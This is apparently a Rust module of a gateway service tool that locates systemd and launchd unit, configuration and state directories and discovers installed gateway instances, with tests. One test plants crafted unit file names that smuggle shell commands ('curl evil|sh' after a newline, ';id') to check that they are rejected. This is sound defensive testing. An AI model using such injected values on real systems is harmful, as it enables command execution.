//! Where the files of a service lie, by scope.

use std::path::{Path, PathBuf};

use super::error::ServiceError;
use super::launchd_plist;
use super::manager_kind::ServiceManagerKind;
use crate::config::{DEFAULT_INSTANCE, Env, check_instance, regular_file};
use crate::launchd::LABEL;
use crate::launchd::launchctl::Launchctl;
use crate::state::paths::{Paths, Scope, launchd_root, runtime_dir};
use crate::state::untrusted_file;

/// A longer file is not read as a unit.
const UNIT_MAX: u64 = 1024 * 1024;

/// How many units of one directory are looked at: far more than anybody has of gateways.
const UNITS_SEEN: usize = 200;

/// The directories of one scope.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Layout {
    pub scope: Scope,
    /// Where install writes units.
    pub units: PathBuf,
    /// Where units that last until the next boot lie.
    pub runtime_units: PathBuf,
    /// ConfigurationDirectory=.
    pub config: PathBuf,
    /// What systemd calls %t.
    pub runtime: PathBuf,
    /// Where distributions put units, after our own.
    vendor: Vec<PathBuf>,
    /// What StateDirectory= is below, the likeliest first: one place or, in user scope, one before
    /// systemd 254 and one since, which gateways by hand use, too.
    state: Vec<PathBuf>,
}

impl Layout {
    /// The directories of a scope.
    ///
    /// # Errors
    /// In user scope without a home directory.
    pub fn of(scope: Scope, env: &Env<'_>) -> Result<Self, ServiceError> {
        let vendor = |kind: &str| {
            ["/usr/local/lib", "/usr/lib", "/lib"]
                .map(|dir| Path::new(dir).join("systemd").join(kind))
        };
        if scope == Scope::System {
            return Ok(Self {
                scope,
                units: "/etc/systemd/system".into(),
                runtime_units: "/run/systemd/system".into(),
                config: "/etc/gateway".into(),
                runtime: "/run".into(),
                vendor: vendor("system").into(),
                state: vec!["/var/lib".into(), "/var/lib/private".into()],
            });
        }
        let home = env.path("HOME").ok_or_else(|| {
            ServiceError::failed("HOME is not set, so there is no place for a user's unit")
        })?;
        let config = env
            .path("XDG_CONFIG_HOME")
            .unwrap_or_else(|| home.join(".config"));
        let state = env
            .path("XDG_STATE_HOME")
            .unwrap_or_else(|| home.join(".local/state"));
        let runtime = runtime_dir(env);
        Ok(Self {
            scope,
            units: config.join("systemd/user"),
            runtime_units: runtime.join("systemd/user"),
            config: config.join("gateway"),
            runtime,
            vendor: [vec!["/etc/systemd/user".into()], vendor("user").into()].concat(),
            // Only a service has its state below the configuration: there it is the service's own.
            state: vec![config, state],
        })
    }

    /// The configuration of an instance.
    pub fn config_file(&self, instance: &str) -> PathBuf {
        self.config.join(format!("{instance}.toml"))
    }

    /// The variables of an instance that only the service manager may read.
    pub fn secrets_file(&self, instance: &str) -> PathBuf {
        self.config.join(format!("{instance}.secrets.env"))
    }

    /// Where drop-ins of a unit may lie.
    pub fn drop_in_dirs(&self, unit: &str) -> Vec<PathBuf> {
        let template = unit
            .split_once('@')
            .map(|(stem, _)| format!("{stem}@.service"));
        let places = [&self.units, &self.runtime_units]
            .into_iter()
            .chain(&self.vendor);
        let in_place = |place: &PathBuf| {
            let names = std::iter::once(unit).chain(template.as_deref());
            names
                .map(|name| place.join(format!("{name}.d")))
                .collect::<Vec<_>>()
        };
        places.flat_map(in_place).collect()
    }

    /// The directories of launchd: jobs where systemd has units, the configuration where a gateway
    /// without systemd looks for it.
    ///
    /// # Errors
    /// Without a home directory, for an agent.
    pub fn launchd(scope: Scope, env: &Env<'_>) -> Result<Self, ServiceError> {
        let systemd = Self::of(scope, env)?;
        // Of any instance: `gateway` and its name are below it.
        let states = Paths::usual_states(env, "x");
        let state = states.get(usize::from(scope == Scope::System));
        let state = state.and_then(|dir| dir.parent()?.parent());
        let state = state.map(Path::to_owned).into_iter().collect();
        let root = launchd_root(env).unwrap_or_else(|| "/".into());
        let (units, config) = match (scope, env.path("HOME")) {
            (Scope::User, Some(home)) => (home.join("Library/LaunchAgents"), systemd.config),
            _ => (root.join("Library/LaunchDaemons"), root.join("etc/gateway")),
        };
        Ok(Self {
            units,
            config,
            vendor: Vec::new(),
            state,
            ..systemd
        })
    }

    /// The directories of an installed gateway.
    ///
    /// # Errors
    /// In user scope without a home directory.
    pub fn of_service(service: &Installed, env: &Env<'_>) -> Result<Self, ServiceError> {
        match service.manager {
            ServiceManagerKind::Systemd => Self::of(service.scope, env),
            ServiceManagerKind::Launchd => Self::launchd(service.scope, env),
        }
    }

    /// Where the state of an instance is, the likeliest place.
    pub fn state_dir(&self, instance: &str) -> Option<PathBuf> {
        let dir = self.state.first()?;
        Some(dir.join("gateway").join(instance))
    }

    /// Everything that StateDirectory= and RuntimeDirectory= may have made for an instance.
    pub fn leftovers(&self, instance: &str) -> Vec<PathBuf> {
        let runtime = [self.runtime.clone(), self.runtime.join("private")];
        self.state
            .iter()
            .chain(&runtime)
            .map(|dir| dir.join("gateway").join(instance))
            .collect()
    }

    /// What notes that it was us who turned lingering on.
    pub fn linger_mark(&self) -> Option<PathBuf> {
        let state = self.state.last().filter(|_| self.scope == Scope::User)?;
        Some(state.join("gateway/.linger-by-gatewayctl"))
    }

    /// Where units may lie, the place that wins first.
    pub fn unit_dirs(&self) -> impl Iterator<Item = &PathBuf> {
        std::iter::once(&self.units).chain(&self.vendor)
    }
}

/// The scope that this user means, where none is said.
pub(super) fn usual_scope() -> Scope {
    if nix::unistd::geteuid().is_root() {
        Scope::System
    } else {
        Scope::User
    }
}

/// A gateway that is installed as a service.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Installed {
    pub instance: String,
    /// Whose manager runs it.
    pub scope: Scope,
    pub manager: ServiceManagerKind,
    /// `gateway.service` or `gateway@NAME.service`; the label of a job of launchd.
    pub unit: String,
    /// Where the unit lies.
    pub path: PathBuf,
    /// The socket unit that holds its listeners, where there is one.
    pub socket: Option<String>,
}

impl Installed {
    /// The log of a job of launchd, in the Library that has the job.
    pub fn launchd_log(&self) -> PathBuf {
        let library = self.path.ancestors().nth(2);
        let library = library.unwrap_or(Path::new("/Library"));
        launchd_plist::log(library, self.scope, &self.instance)
    }

    /// A job of launchd.
    pub(super) fn job(layout: &Layout, instance: String) -> Self {
        let unit = format!("{LABEL}{instance}");
        Self {
            scope: layout.scope,
            manager: ServiceManagerKind::Launchd,
            path: layout.units.join(format!("{unit}.plist")),
            unit,
            socket: None,
            instance,
        }
    }
}

/// The installed gateway of this name; `scope` none means either, the caller's usual one first.
pub fn find(env: &Env<'_>, instance: &str, scope: Option<Scope>) -> Option<Installed> {
    installed(env, scope)
        .into_iter()
        .find(|found| found.instance == instance)
}

/// All that are installed, those of the caller's usual scope first.
pub fn installed(env: &Env<'_>, scope: Option<Scope>) -> Vec<Installed> {
    let mut scopes = vec![Scope::User, Scope::System];
    if nix::unistd::geteuid().is_root() {
        scopes.reverse();
    }
    scopes.retain(|one| scope.is_none_or(|scope| scope == *one));
    let mut found = Vec::new();
    for layout in scopes
        .into_iter()
        .filter_map(|scope| Layout::of(scope, env).ok())
    {
        let mut here: Vec<Installed> = Vec::new();
        for dir in layout.unit_dirs() {
            for (instance, path) in units_in(dir) {
                if !here.iter().any(|known| known.instance == instance) {
                    here.push(describe(&layout, dir, instance, path));
                }
            }
        }
        if Launchctl::find().is_some() {
            here.extend(jobs(env, layout.scope));
        }
        here.sort_by(|a, b| a.instance.cmp(&b.instance));
        found.extend(here);
    }
    found
}

/// The gateways that launchd runs: for this user, or for the machine.
fn jobs(env: &Env<'_>, scope: Scope) -> Vec<Installed> {
    let Ok(layout) = Layout::launchd(scope, env) else {
        return Vec::new();
    };
    let names = untrusted_file::names(&layout.units).unwrap_or_default();
    let names = names.into_iter().filter_map(|name| name.into_string().ok());
    let instance = |name: String| {
        let instance = name.strip_suffix(".plist")?.strip_prefix(LABEL)?;
        check_instance(instance).ok()?;
        Some(instance.to_owned())
    };
    let jobs = names.filter_map(instance).take(UNITS_SEEN);
    jobs.map(|instance| Installed::job(&layout, instance))
        .collect()
}

/// Where the state of an installed gateway may lie, the likeliest first.
pub fn state_dirs(env: &Env<'_>, unit: &Installed) -> Vec<PathBuf> {
    Layout::of_service(unit, env)
        .map_or_else(|_| Vec::new(), |layout| layout.leftovers(&unit.instance))
}

fn describe(layout: &Layout, dir: &Path, instance: String, path: PathBuf) -> Installed {
    let stem = super::unit_text::UnitSubject::Instance(instance.clone()).stem();
    let socket = format!("{stem}.socket");
    let has_socket = dir.join(&socket).exists();
    Installed {
        scope: layout.scope,
        manager: ServiceManagerKind::Systemd,
        unit: format!("{stem}.service"),
        path,
        socket: has_socket.then_some(socket),
        instance,
    }
}

/// The gateway units of a directory, instances of a template that are enabled there included.
fn units_in(dir: &Path) -> Vec<(String, PathBuf)> {
    let mut found = Vec::new();
    for (name, path) in unit_entries(dir) {
        if let Some(instance) = instance_of(&name)
            && is_gateway(&path)
        {
            found.push((instance, path));
        } else if name.ends_with(".wants") {
            let linked = unit_entries(&path)
                .into_iter()
                .filter_map(|(name, path)| Some((instance_of(&name)?, path)));
            found.extend(
                linked.filter(|(instance, path)| instance != DEFAULT_INSTANCE && is_gateway(path)),
            );
        }
    }
    // The file itself tells more than a link to it.
    found.sort_by_key(|(_, path)| path.components().count());
    found
}

/// The gateway units and the directories of links in a directory, by their names. In another user's
/// home there may be any number: at most [`UNITS_SEEN`] of each are looked at.
fn unit_entries(dir: &Path) -> Vec<(String, PathBuf)> {
    let names = untrusted_file::names(dir).unwrap_or_default().into_iter();
    let names: Vec<String> = names.filter_map(|name| name.into_string().ok()).collect();
    let units = names.iter().filter(|name| instance_of(name).is_some());
    let links = names.iter().filter(|name| name.ends_with(".wants"));
    let seen = units.take(UNITS_SEEN).chain(links.take(UNITS_SEEN));
    seen.map(|name| (name.clone(), dir.join(name))).collect()
}

fn instance_of(file: &str) -> Option<String> {
    let stem = file.strip_suffix(".service")?;
    if stem == DEFAULT_INSTANCE {
        return Some(stem.to_owned());
    }
    // In another user's home the rest may be anything, and commands contain it.
    stem.strip_prefix(DEFAULT_INSTANCE)?
        .strip_prefix('@')
        .filter(|name| check_instance(name).is_ok())
        .map(str::to_owned)
}

/// "gateway" is a name that others use for their services too.
fn is_gateway(path: &Path) -> bool {
    // In another user's home it may be anything.
    let Ok(text) = regular_file::read(path, UNIT_MAX) else {
        return false;
    };
    let text = String::from_utf8_lossy(&text);
    text.lines().any(|line| {
        line.starts_with("ExecStart=") && line.contains("gateway") && line.contains(" run")
    })
}

#[cfg(test)]
mod tests {
    use std::ffi::OsString;

    use super::*;

    #[test]
    fn installed_gateways_are_found_and_strangers_are_not() {
        let home = tempfile::tempdir().unwrap();
        let units = home.path().join(".config/systemd/user");
        std::fs::create_dir_all(units.join("default.target.wants")).unwrap();
        let ours = "[Service]\nExecStart=/usr/bin/gateway run --instance x\n";
        for (name, text) in [
            ("gateway.service", ours),
            ("gateway@web.service", ours),
            ("gateway@.service", ours),
            ("gateway.socket", ""),
            ("gateway@x\ncurl evil|sh.service", ours),
            ("gateway@;id.service", ours),
            (
                "gateway@other.service",
                "[Service]\nExecStart=/opt/api/server\n",
            ),
        ] {
            std::fs::write(units.join(name), text).unwrap();
        }
        std::os::unix::fs::symlink(
            "../gateway@.service",
            units.join("default.target.wants/gateway@linked.service"),
        )
        .unwrap();
        let env = |name: &str| -> Option<OsString> { (name == "HOME").then(|| home.path().into()) };
        let found = installed(&Env(&env), Some(Scope::User));
        let names: Vec<&str> = found.iter().map(|one| one.instance.as_str()).collect();
        assert_eq!(names, ["gateway", "linked", "web"]);
        assert_eq!(found[0].socket.as_deref(), Some("gateway.socket"));
        assert_eq!(
            find(&Env(&env), "web", Some(Scope::User)).unwrap().unit,
            "gateway@web.service"
        );
        assert!(find(&Env(&env), "other", Some(Scope::User)).is_none());
        // Before systemd 254, beside what gateways by hand have left.
        let dirs = state_dirs(&Env(&env), &found[0]);
        let below = |dir: &str| home.path().join(dir).join("gateway/gateway");
        assert_eq!(dirs[..2], [below(".config"), below(".local/state")]);
    }

    #[test]
    fn of_any_number_of_units_in_a_home_some_are_looked_at() {
        let home = tempfile::tempdir().unwrap();
        let units = home.path().join(".config/systemd/user");
        std::fs::create_dir_all(&units).unwrap();
        let first = units.join("gateway@0.service");
        std::fs::write(&first, "[Service]\nExecStart=/usr/bin/gateway run\n").unwrap();
        for number in 1..2 * UNITS_SEEN {
            std::fs::hard_link(&first, units.join(format!("gateway@{number}.service"))).unwrap();
        }
        let env = |name: &str| -> Option<OsString> { (name == "HOME").then(|| home.path().into()) };
        assert_eq!(installed(&Env(&env), Some(Scope::User)).len(), UNITS_SEEN);
    }
}
